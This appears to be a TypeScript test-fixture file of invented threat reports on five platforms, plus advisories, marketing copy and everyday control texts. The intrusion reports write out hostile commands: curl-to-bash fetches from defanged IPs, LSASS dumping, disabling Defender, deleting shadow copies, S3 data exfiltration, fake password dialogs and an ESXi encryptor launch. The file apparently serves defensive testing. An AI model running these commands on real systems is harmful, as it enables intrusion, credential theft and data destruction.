/** Texts written for these tests: invented intrusions on five platforms, and what vendors publish beside such reports. */

export const windowsRansomware = `The intrusion began with a phishing e-mail that carried an ISO image. Inside was a shortcut
that started rundll32.exe with a library named notes.dat. Thirty minutes later the loader ran:
rundll32.exe C:\\ProgramData\\notes.dat,Entry
The beacon talked to portal-sync[.]example over HTTPS and, as a fallback, to 203.0.113[.]40. The operators looked around:
nltest /domain_trusts /all_trusts
net group "Domain Admins" /domain
They dumped LSASS with procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\d.dmp and moved laterally with wmic.exe and
PsExec. Persistence was a Run key, HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Notes. To blind the defences they used
powershell.exe -Command "Set-MpPreference -DisableRealtimeMonitoring $true"
and before the ransomware ran,
vssadmin.exe delete shadows /all /quiet
The payload's SHA256 is 7d1a54127b222502f5b79b5fb0803061152a44f92b37e23c6527baf665d4da9a. Techniques seen: T1204.002, T1218.011,
T1003.001, T1021.002, T1490 and T1486. Hunt for rundll32.exe loading files without a .dll extension from ProgramData.`;

export const linuxMiner = `Our honeypot was found through an exposed Redis. The attackers wrote a cron entry that fetched a script:
curl -fsSL http://198.51.100[.]23/ldr.sh | bash
The script stops competing miners, then drops xmrig as /dev/shm/.kworkerd and hides it with a library named in
/etc/ld.so.preload. It also runs chattr +i /etc/cron.d/root so that the entry cannot be removed, sets HISTFILE=/dev/null
and adds a key to /root/.ssh/authorized_keys. A second stage is loaded with memfd_create and never touches the disk.
echo "*/5 * * * * root curl -s http://198.51.100[.]23/ldr.sh | sh" > /etc/cron.d/root
chattr +i /etc/cron.d/root
Lateral movement follows the hosts in known_hosts and .bash_history. The miner (MD5 9e107d9d372bb6826bd81d3542a419d6) reports to
pool.minexmr[.]example port 3333. ATT&CK: T1053.003, T1574.006, T1496, T1070.003, T1021.004. Detection: audit writes to
/etc/ld.so.preload and processes whose executable lies under /dev/shm.`;

export const cloudIntrusion = `In April a threat actor used an access key leaked in a public repository. The first call, seconds after the
commit, was GetCallerIdentity from 192.0.2[.]77 with the user agent of a scripting library. Over the next hour CloudTrail shows
ListUsers, ListBuckets and GetSecretValue, then CreateAccessKey for a second user and AttachUserPolicy with AdministratorAccess:
aws iam create-access-key --user-name backup-svc
aws iam attach-user-policy --user-name backup-svc --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
To stay unseen they called StopLogging and DeleteTrail. From an EC2 instance the role's credentials were read at 169.254.169.254
and used to reach the mail tenant, where New-InboxRule hid replies from the bank. Data left with
aws s3 sync s3://customer-exports s3://drop-7f3a --acl bucket-owner-full-control
Hunt for CreateAccessKey where the caller and the target differ. Techniques: T1078.004, T1098.001, T1562.008, T1552.005, T1537.`;

export const esxiEncryptor = `The affiliate entered through an unpatched VPN appliance (CVE-2024-99991) and left a web shell. With
credentials of the backup account they reached vCenter, reset the root password and enabled SSH on every host. On the hypervisor:
esxcli vm process list
vim-cmd vmsvc/getallvms
esxcli system settings kernel set -s execInstalledOnly -v FALSE
for each machine, vim-cmd vmsvc/power.off, and snapshots removed with vim-cmd vmsvc/snapshot.removeall. The encryptor, an ELF named
/tmp/enc, walked /vmfs/volumes and encrypted every .vmdk. It was started as
chmod +x /tmp/enc && nohup /tmp/enc --path /vmfs/volumes --size 20 &
Logs were removed from /var/log/hostd.log. The group, tracked as UNC9944, overlaps with a known ransomware brand. The tunnel went to
gateway-eu[.]example (198.51.100[.]201). SHA-1 of the encryptor: 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12. T1675, T1486, T1190, T1505.003.`;

export const macStealer = `The disk image poses as a meeting client. Its shell script asks for the login password in a dialog:
osascript -e 'display dialog "Enter your password" default answer "" with hidden answer'
checks it with dscl . -authonly, and removes the quarantine mark:
xattr -d com.apple.quarantine /Applications/Meet.app
The infostealer copies the login keychain, cookies and wallets, packs them with ditto and posts the archive to
hxxp://203.0.113[.]9/gate. For persistence it writes ~/Library/LaunchAgents/com.meet.helper.plist and loads it:
launchctl load -w ~/Library/LaunchAgents/com.meet.helper.plist
It tries to read TCC.db and, if refused, resets consent with tccutil. The binary is an unsigned Mach-O, SHA-256
ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d. Mapped to T1204.002, T1555.001, T1543.001, T1059.002 and T1553.001.
Hunting: launchctl started by a shell whose parent is an application under /Volumes.`;

export const queryPost = `Hunting for service installs that start from a user's folder. In Defender:
DeviceProcessEvents
| where InitiatingProcessFileName =~ "services.exe" and ProcessCommandLine has @"\\AppData\\"
| project Timestamp, DeviceName, ProcessCommandLine
As a Sigma rule:
logsource:
  category: process_creation
detection:
  selection:
    ParentImage|endswith: '\\services.exe'
    Image|contains: '\\AppData\\'
  condition: selection
We saw this in three intrusions with lateral movement over SMB (T1569.002, T1543.003), among them one by FIN7.`;

export const productLaunch = `Today we announce the next generation of our platform. Malware, ransomware and phishing have never been more
dangerous, and nation-state actors such as APT29 show what a sophisticated attack can do. Our agent watches powershell.exe,
rundll32.exe and lsass.exe in real time and stops lateral movement before the data breach. Learn more about what is new,
download now, start your free trial or contact us. Sign up for our newsletter and our webinar on best practices.`;

export const surveyPost = `Our annual survey of two thousand security leaders reveals that ransomware stays the greatest worry. The study
reveals that sixty percent saw a data breach last year, and that training budgets grow. What is zero trust, and how to get started?
Read more in the full report, with statistics by industry and an overview of the fundamentals. Contact us for a guide to adoption.`;

export const explainer = `What is a botnet? In this introduction we explain the basics. A botnet is a network of machines compromised by
malware and steered from a command and control server. How to protect yourself: install updates, use best practices for passwords,
and take part in awareness training. Learn more in our tutorial, or sign up for the blog post newsletter.`;

export const patchNotes = `Security update for Example Gateway 9.1, published in May. This release corrects CVE-2024-99971 (CVSS 9.8), a command
injection in the management interface, and CVE-2024-99972, an information disclosure. We are aware that the first is exploited in
the wild. Update to 9.1.4 or later. If you cannot, restrict access to the management interface. Customers who find unexpected
files under /data/runtime/tmp should contact support. Indicators: 198.51.100[.]88 and the user agent "probe/1.0".`;

export const agencyAdvisory = `The agency and its partners warn of a campaign against water utilities. The threat actor exploits CVE-2023-99961 in
exposed controllers (T1190) and uses valid accounts with default passwords (T1078.001). Reconnaissance with public scanners was observed
before initial access. Mitigations: change default passwords, enable multi-factor authentication, keep the controllers off the
internet. Indicators of compromise: 203.0.113[.]17, 203.0.113[.]18, update-plc[.]example. Report incidents to the agency.`;

export const cveRoundup = `The vendor's monthly fixes address 61 vulnerabilities, two of them zero-day. CVE-2025-99901 lets a local user gain SYSTEM
through a driver; CVE-2025-99902 bypasses a warning on files from the web and has been used in phishing. Other fixes:
CVE-2025-99903, CVE-2025-99904, CVE-2025-99905. Administrators should apply the update and set the registry value described
under HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Example to 1 once all machines run it.`;

export const recipe = `For the dough, mix flour and salt, then add water a little at a time and let it rest. Expand the disc by hand, not with
a pin. The control of the oven is the technique that most discovered late: full heat, door shut, four minutes. Print the card, replace the
cheese as you like, and query your guests about allergies. Observed from the export market, olive oil of the first press is best.`;

export const releaseNotes = `Version 4.2 of the build tool. The proxy setting now also applies to the network cache. Fixed: DEV-1042, a crash when
the child process spawns before the pipe is open; TA-77, wrong anomaly colours. Run npm install to update, then docker compose up.
On Linux and macOS the executable is in /usr/local/bin, on Windows under C:\\Program Files\\Tool\\tool.exe. The monitor command shows alerts:
sudo systemctl restart tool
The cloud runner needs an AWS or Azure account. Thanks to all contributors -> see https://example.org/team for persistence of settings.`;

export const nature = `The lion of the valley was seen in the wild again, after a long reconnaissance by rangers on foot. Its persistence
surprised everyone: wounded, compromised by a dry season, it still held its ground. Lazarus, as the children call it, was a
victim of a snare last year. The campaign against poaching is a real-world success, and the technique is now copied elsewhere.`;

export const sports = `FIN 3, SWE 2 after overtime. The IOC will publish the schedule on Friday. The team's attack was targeted at the left wing,
and the defence was exploited twice; the breach came in minute 58. An incident in the stands was observed, no compromise on safety.`;

/** Thirty-five everyday words, none about security, of which a dozen are some program's name. */
export const notice = `Our picnic is at the lake again. Please print the sheet, replace old batteries, reset clocks and query
the services desk. Teams change seats, expand tents, export photos and update friends. Explorer children may control
remote boats.`;
